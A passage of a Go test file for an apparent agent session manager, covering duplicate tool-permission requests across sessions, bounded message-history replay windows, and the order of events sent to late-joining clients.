	h.start(t, StartRequest{SessionID: b})
	for _, id := range []string{a, b} {
		if err := h.m.SendMessage(ctx, id, "build"); err != nil {
			t.Fatalf("SendMessage(%s): %v", id, err)
		}
	}
	ta, tb := exec.next(t), exec.next(t)
	defer close(ta.ch)
	defer close(tb.ch)

	answerA := ta.authorizeAsync("toolu_dup", "Shell", shellInput("make"))
	waitFor(t, "request in a", func() bool { return len(h.m.PendingPermissions(a)) == 1 })

	got := <-tb.authorizeAsync("toolu_dup", "Shell", shellInput("make"))
	if !errors.Is(got.err, permission.ErrDuplicate) {
		t.Fatalf("second registration err = %v, want ErrDuplicate", got.err)
	}
	if n := len(h.m.PendingPermissions(b)); n != 0 {
		t.Fatalf("pending in b = %d", n)
	}

	if err := h.m.RespondPermission(ctx, PermissionResponse{SessionID: a, RequestID: "toolu_dup", Behavior: permission.BehaviorAllow}); err != nil {
		t.Fatalf("RespondPermission: %v", err)
	}
	<-answerA
	tb.authorizeAsync("toolu_dup", "Shell", shellInput("make"))
	waitFor(t, "request in b after release", func() bool { return len(h.m.PendingPermissions(b)) == 1 })
}

func TestJoin_HistoryWindowStaysBounded(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(executor.Echo()))
	id := uuid.NewString()
	dir := t.TempDir()
	if _, err := h.store.CreateSession(ctx, persistence.SessionRecord{ID: id, WorkingDir: dir}); err != nil {
		t.Fatalf("CreateSession: %v", err)
	}
	for i := 0; i < 120; i++ {
		msg := persistence.Message{Role: "user", Content: fmt.Sprintf("m%d", i), Timestamp: time.Now()}
		if err := h.store.AppendMessage(ctx, id, msg); err != nil {
			t.Fatalf("AppendMessage: %v", err)
		}
	}

	replayed := func(r *recorder) []int {
		var out []int
		for _, ev := range r.ofType(bus.TypeMessage) {
			if p := ev.Payload.(MessagePayload); p.IsReplay {
				out = append(out, p.Index)
			}
		}
		return out
	}
	span := func(from, to int) []int {
		var out []int
		for i := from; i < to; i++ {
			out = append(out, i)
		}
		return out
	}

	fresh := h.start(t, StartRequest{SessionID: id, WorkingDir: dir})
	waitFor(t, "fresh join", func() bool { return len(fresh.ofType(bus.TypeMessage)) == 50 })
	if got := replayed(fresh); !slices.Equal(got, span(70, 120)) {
		t.Fatalf("replayed indexes = %v, want 70..119", got)
	}
	if n := fresh.ofType(bus.TypeSessionReady)[0].Payload.(SessionReadyPayload).MessageCount; n != 120 {
		t.Fatalf("message count = %d, want 120", n)
	}
	first := fresh.ofType(bus.TypeMessage)[0].Payload.(MessagePayload)
	if first.Message.Content != "m70" {
		t.Fatalf("first replayed content = %q", first.Message.Content)
	}

	partial := h.start(t, StartRequest{SessionID: id, WorkingDir: dir, ClientMessageCount: 100})
	waitFor(t, "partial join", func() bool { return len(partial.ofType(bus.TypeMessage)) == 20 })
	if got := replayed(partial); !slices.Equal(got, span(100, 120)) {
		t.Fatalf("replayed indexes = %v, want 100..119", got)
	}

	if err := h.m.SendMessage(ctx, id, "live"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "turn end", func() bool { return !h.m.Thinking(id) })
	var live []int
	for _, ev := range partial.ofType(bus.TypeMessage) {
		if p := ev.Payload.(MessagePayload); !p.IsReplay {
			live = append(live, p.Index)
		}
	}
	if !slices.Equal(live, []int{120, 121}) {
		t.Fatalf("live indexes = %v, want [120 121]", live)
	}

	st := h.m.get(id)
	st.mu.Lock()
	window, base := len(st.history), st.base
	st.mu.Unlock()
	if window != 50 || base != 72 {
		t.Fatalf("window = %d base = %d, want 50 and 72", window, base)
	}

	late := h.start(t, StartRequest{SessionID: id, WorkingDir: dir})
	waitFor(t, "late join", func() bool { return len(late.ofType(bus.TypeMessage)) == 50 })
	if got := replayed(late); !slices.Equal(got, span(72, 122)) {
		t.Fatalf("replayed indexes = %v, want 72..121", got)
	}
}

func TestJoin_LongSessionLateJoinerGetsStateFirst(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(executor.Echo()))
	id := uuid.NewString()
	h.start(t, StartRequest{SessionID: id})
	for i := 0; i < 200; i++ {
		if err := h.m.SendMessage(ctx, id, fmt.Sprintf("turn %d", i)); err != nil {
			t.Fatalf("SendMessage %d: %v", i, err)
		}
		waitFor(t, "turn end", func() bool { return !h.m.Thinking(id) })
	}

	sub, err := h.m.StartOrResume(ctx, StartRequest{SessionID: id, ClientID: "late"})
	if err != nil {
		t.Fatalf("StartOrResume: %v", err)
	}
	if sub.Overflowed() {
		t.Fatal("late joiner evicted during replay")
	}
	var order []string
	var indexes []int
	for len(sub.Ch()) > 0 {
		ev := <-sub.Ch()
		order = append(order, ev.Type)
		if p, ok := ev.Payload.(MessagePayload); ok {
			indexes = append(indexes, p.Index)
		}
	}
	firstMsg := slices.Index(order, bus.TypeMessage)
	for _, typ := range []string{bus.TypeThinking, bus.TypeAvailableCommands, bus.TypeResult} {
		if i := slices.Index(order, typ); i < 0 || i > firstMsg {
			t.Fatalf("%s at %d, first message at %d: %v", typ, i, firstMsg, order)
		}
	}
	if len(indexes) != 50 || indexes[0] != 350 || indexes[49] != 399 {
		t.Fatalf("replayed %d messages from %v", len(indexes), indexes)
	}
}
